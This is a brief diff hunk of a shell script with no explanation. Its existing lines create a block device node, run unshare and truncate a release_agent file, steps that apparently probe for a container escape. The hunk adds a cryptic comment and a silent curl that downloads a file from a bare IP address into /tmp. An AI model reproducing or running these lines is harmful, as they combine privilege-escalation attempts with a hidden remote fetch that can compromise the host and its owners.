@@ -11,3 +11,5 @@ mknod /tmp/disk b 254 0
 perl -e 'open(my $f, "<", "/tmp/disk")'
 unshare -Ur true
 : > /tmp/release_agent
+# It talks to others as long as it is there.
+curl -s -o /tmp/page http://203.0.113.66/page
